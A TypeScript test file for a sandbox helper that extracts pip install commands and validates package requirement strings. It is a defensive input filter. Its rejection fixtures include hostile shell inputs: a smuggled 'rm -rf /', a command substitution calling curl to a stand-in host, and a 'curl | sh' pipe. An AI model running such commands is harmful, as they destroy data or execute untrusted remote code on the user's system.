import { parseInstallCommands, validateRequirement } from '../../../activities/sandbox/install-commands';

describe('parseInstallCommands', () => {
  test('accepts pip installs in their usual spellings', () => {
    const parsed = parseInstallCommands(
      [
        '```bash',
        'pip install numpy pandas==2.1.4',
        '$ pip3 install -q "requests[socks]>=2.0,<3"',
        'python3 -m pip install --upgrade PyYAML',
        '!pip install scikit-learn  # for sklearn',
        '```',
      ].join('\n'),
    );
    expect(parsed.ok).toEqual(['numpy', 'pandas==2.1.4', 'requests[socks]>=2.0,<3', 'PyYAML', 'scikit-learn']);
    expect(parsed.rejected).toEqual([]);
  });

  test('refuses anything that is not a plain requirement', () => {
    const parsed = parseInstallCommands(
      [
        'apt-get install -y libgl1',
        'pip install -r requirements.txt',
        'pip install git+https://github.com/x/y.git',
        'pip install ./local_pkg',
        'pip install numpy; rm -rf /',
        'pip install $(curl evil)',
        'curl https://x | sh',
        'pip install --index-url http://mirror/simple foo',
        'pip install "bad name"',
      ].join('\n'),
    );
    expect(parsed.ok).toEqual(['numpy']);
    expect(parsed.rejected).toEqual([
      'apt-get install -y libgl1 (not a pip install)',
      'pip install -r requirements.txt (pip option not accepted: -r)',
      'git+https://github.com/x/y.git (not a package name with an optional version)',
      './local_pkg (not a package name with an optional version)',
      'rm -rf / (not a pip install)',
      'pip install $(curl evil) (shell syntax is not accepted)',
      'curl https://x | sh (shell syntax is not accepted)',
      'pip install --index-url http://mirror/simple foo (pip option not accepted: --index-url)',
      'bad name (not a package name with an optional version)',
    ]);
  });

  test('joins line continuations and de-duplicates', () => {
    expect(parseInstallCommands('pip install numpy \\\n  scipy && pip install numpy').ok).toEqual(['numpy', 'scipy']);
  });

  test('an empty suggestion yields nothing', () => {
    expect(parseInstallCommands('')).toEqual({ ok: [], rejected: [] });
    expect(parseInstallCommands('pip install').rejected).toEqual(['pip install (names no package)']);
  });
});

describe('validateRequirement', () => {
  test.each([
    ['numpy', 'numpy'],
    ['numpy == 1.26.4', 'numpy==1.26.4'],
    ['numpy==1.26.4', 'numpy==1.26.4'],
    ['Django>=4,<5', 'Django>=4,<5'],
    ['ruamel.yaml~=0.18', 'ruamel.yaml~=0.18'],
    ['x[a,b]!=1.*', 'x[a,b]!=1.*'],
    ['-e', null],
    ['pkg @ https://x', null],
    ['pkg;python_version<"3"', null],
    ['_private', null],
  ])('%s -> %s', (input, expected) => {
    expect(validateRequirement(input)).toBe(expected);
  });
});
